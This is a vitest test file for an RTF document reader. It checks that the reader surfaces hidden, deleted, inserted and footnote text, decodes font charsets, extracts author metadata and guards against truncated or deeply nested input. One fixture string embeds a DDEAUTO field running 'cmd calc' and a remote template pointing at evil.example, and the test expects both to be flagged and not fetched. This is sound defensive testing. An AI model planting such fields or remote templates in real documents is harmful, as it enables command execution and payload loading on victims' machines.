import { describe, expect, it } from 'vitest'
import { sourceOf } from '../source.ts'
import { rtf } from './rtf.ts'
import { openBy } from '../open-by.fixture.ts'

const linesOf = async (source: string): Promise<{ text: string[]; file: Awaited<ReturnType<typeof rtf.open>> }> => {
  const bytes = Buffer.from(source, 'latin1')
  expect(rtf.takes({ mime: 'application/rtf', start: bytes }, sourceOf('a.rtf', bytes))).toBe(true)
  const file = await openBy(rtf, sourceOf('a.rtf', bytes))
  return { text: ((await file.text?.(0))?.units ?? []).map(({ text }) => text), file }
}

describe('rich text', () => {
  it('names what is hidden, deleted, inserted and remarked, in place, and reads letters by the font that they are in', async () => {
    const { text, file } = await linesOf(
      String.raw`{\rtf1\ansi\ansicpg1252{\fonttbl{\f0\fcharset0 Arial;}{\f1\fcharset204 Arial Cyr;}}{\info{\author Ana}{\creatim\yr2026\mo2\dy3\hr9\min5}}` +
        String.raw`\f0 Meet {\deleted noon}{\revised midnight}{\v  alone} \'fcber{\f1 \'d3}\u8364?\par {\*\unknown nothing}a\cell b\cell\row{\footnote See map}` +
        String.raw`{\field{\*\fldinst DDEAUTO cmd calc}{\fldrslt x}}{\*\template http://evil.example/t.dot}}`,
    )
    expect(text).toEqual([
      'Meet [deleted: noon][inserted: midnight][hidden:  alone] überУ€',
      'a\tb\t',
      '[footnote: See map][field: DDEAUTO cmd calc]x',
    ])
    expect(file.facts).toEqual([
      { name: 'author', value: 'Ana', source: 'RTF information' },
      { name: 'creatim', value: '2026-02-03T09:05', source: 'RTF information' },
    ])
    expect(file.problems.join(' ')).toMatch(/template.*not fetched.*DDE/)
  })

  it('says that it is cut short, and does not go down without end', async () => {
    expect((await linesOf(String.raw`{\rtf1 {\b half`)).file.problems.join()).toContain('cut short')
    await expect(linesOf(`{\\rtf1 ${'{'.repeat(5000)}`)).rejects.toThrow('1,000 deep')
  })
})
